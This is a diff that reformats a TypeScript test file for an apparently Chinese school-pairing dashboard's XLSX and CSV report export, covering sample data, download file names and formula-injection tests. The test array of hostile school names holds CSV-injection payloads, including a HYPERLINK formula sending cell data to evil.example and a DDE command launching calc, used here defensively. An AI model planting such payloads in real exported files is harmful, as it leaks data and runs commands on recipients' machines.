@@ -33,7 +33,15 @@ const report: DashboardReport = {
     {
       id: "p1",
       status: "active",
-      schoolA: { id: "a", nameZh: "合川区龙市镇中心小学", nameBo: null, nameEn: "Longshi Town Central Primary School, Hechuan", stage: "primary", regionId: "r1", members: 12 },
+      schoolA: {
+        id: "a",
+        nameZh: "合川区龙市镇中心小学",
+        nameBo: null,
+        nameEn: "Longshi Town Central Primary School, Hechuan",
+        stage: "primary",
+        regionId: "r1",
+        members: 12,
+      },
       schoolB: { id: "b", nameZh: "类乌齐县中学", nameBo: "རི་བོ་ཆེ་རྫོང་སློབ་འབྲིང་།", nameEn: null, stage: "middle", regionId: "r2", members: 7 },
       planned: 8,
       scheduled: 6,
@@ -158,14 +166,7 @@ describe("the XLSX report", () => {
 });
 
 /** School names a hostile coordinator could give, one per character OWASP lists. */
-const FORMULA_NAMES = [
-  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-  "+1+cmd|' /C calc'!A0",
-  "-2+3",
-  "@SUM(1,2)",
-  "\t=1+1",
-  "\r=1+1",
-];
+const FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"];
 
 function hostileReport(): DashboardReport {
   const [pairing] = report.pairings;
@@ -253,8 +254,12 @@ describe("formula injection (OWASP CSV injection)", () => {
 describe("the download's name", () => {
   it("names the term and stage, with an RFC 5987 name when it is not ASCII", () => {
     expect(exportFilename(report, "xlsx")).toBe("tongke-report-2026-2027-1.xlsx");
-    expect(exportFilename({ ...report, filters: { term: "2025-2026-2", stage: "middle" } }, "csv")).toBe("tongke-report-2025-2026-2-middle.csv");
+    expect(exportFilename({ ...report, filters: { term: "2025-2026-2", stage: "middle" } }, "csv")).toBe(
+      "tongke-report-2025-2026-2-middle.csv",
+    );
     expect(contentDisposition("tongke-report-2026-2027-1.xlsx")).toBe('attachment; filename="tongke-report-2026-2027-1.xlsx"');
-    expect(contentDisposition("同课报表.csv")).toBe(`attachment; filename="____.csv"; filename*=UTF-8''%E5%90%8C%E8%AF%BE%E6%8A%A5%E8%A1%A8.csv`);
+    expect(contentDisposition("同课报表.csv")).toBe(
+      `attachment; filename="____.csv"; filename*=UTF-8''%E5%90%8C%E8%AF%BE%E6%8A%A5%E8%A1%A8.csv`,
+    );
   });
 });
